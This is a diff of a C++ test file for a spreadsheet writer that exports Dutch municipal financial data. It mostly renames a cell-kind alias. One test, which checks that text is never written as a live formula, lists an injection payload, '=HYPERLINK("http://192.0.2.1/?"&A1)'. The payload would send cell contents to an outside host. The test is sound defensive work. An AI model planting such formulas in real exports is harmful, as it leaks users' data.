@@ -8,14 +8,14 @@
 using namespace kamerklaar;
 using namespace kamerklaar::tests;
 using work::WorkbookWriter;
-using CellKind = WorkbookWriter::CellKind;
+using WrittenKind = WorkbookWriter::CellKind;
 using Format = WorkbookWriter::Format;
 using Catch::Matchers::Contains;
 
 namespace {
 
 WorkbookWriter::Column column(const std::string& key, const std::string& title,
-                              CellKind kind = CellKind::Text) {
+                              WrittenKind kind = WrittenKind::Text) {
     WorkbookWriter::Column made;
     made.key = key;
     made.title = title;
@@ -30,9 +30,9 @@ WorkbookWriter::Workbook takingOver() {
     sheet.introduction = {"Vul per gemeente één regel in.", "Laat leeg wat u niet weet."};
     sheet.columns = {column("code", "Gemeentecode"),
                      column("name", "Gemeente"),
-                     column("net", "Netto verleend", CellKind::Money),
-                     column("date", "Datum besluit", CellKind::Date),
-                     column("year", "Jaar", CellKind::Count),
+                     column("net", "Netto verleend", WrittenKind::Money),
+                     column("date", "Datum besluit", WrittenKind::Date),
+                     column("year", "Jaar", WrittenKind::Count),
                      column("audit", "Aard controle")};
     sheet.columns[0].isLocked = true;
     sheet.columns[2].help = "Zonder het deel dat in het BTW-compensatiefonds is gestort.";
@@ -88,7 +88,7 @@ TEST_CASE("amounts are written to the cent, however large") {
     WorkbookWriter::Workbook workbook;
     WorkbookWriter::Sheet sheet;
     sheet.name = "Bedragen";
-    sheet.columns = {column("", "Bedrag", CellKind::Money)};
+    sheet.columns = {column("", "Bedrag", WrittenKind::Money)};
     sheet.rows = {{"900719925413"}, {"9999999999999"}, {"-1"}, {"0"}, {"10"}, {"4500010"}};
     workbook.sheets = {sheet};
     Rows rows = rowsIn(exchange::Workbooks().write(workbook, format));
@@ -107,7 +107,7 @@ TEST_CASE("numbers with decimals are written as numbers, and what is none as tex
     const auto format = GENERATE(Format::Xlsx, Format::Ods, Format::Csv);
     WorkbookWriter::Workbook workbook;
     WorkbookWriter::Sheet sheet;
-    sheet.columns = {column("", "Deel", CellKind::Decimal)};
+    sheet.columns = {column("", "Deel", WrittenKind::Decimal)};
     sheet.rows = {{"61300"}, {"-1"}, {"72000"}, {"0"}, {"1250125"}, {"–"}};
     workbook.sheets = {sheet};
     Rows rows = rowsIn(exchange::Workbooks().write(workbook, format));
@@ -119,7 +119,7 @@ TEST_CASE("days are written as days, those before March 1900 too") {
     const auto format = GENERATE(Format::Xlsx, Format::Ods, Format::Csv);
     WorkbookWriter::Workbook workbook;
     WorkbookWriter::Sheet sheet;
-    sheet.columns = {column("", "Dag", CellKind::Date)};
+    sheet.columns = {column("", "Dag", WrittenKind::Date)};
     sheet.rows = {{"1900-01-01"}, {"1900-02-28"}, {"1900-03-01"}, {"2025-02-01"}, {"2199-12-31"}};
     workbook.sheets = {sheet};
     Rows rows = rowsIn(exchange::Workbooks().write(workbook, format));
@@ -284,7 +284,7 @@ TEST_CASE("no text that a table program would reckon comes out as a formula, in 
                                             "=HYPERLINK(\"http://192.0.2.1/?\"&A1)"};
     WorkbookWriter::Sheet sheet;
     sheet.name = "Blad";
-    sheet.columns = {column("", "=titel"), column("", "b", CellKind::Money)};
+    sheet.columns = {column("", "=titel"), column("", "b", WrittenKind::Money)};
     for (const std::string& text : texts) {
         sheet.rows.push_back({text, text});
     }
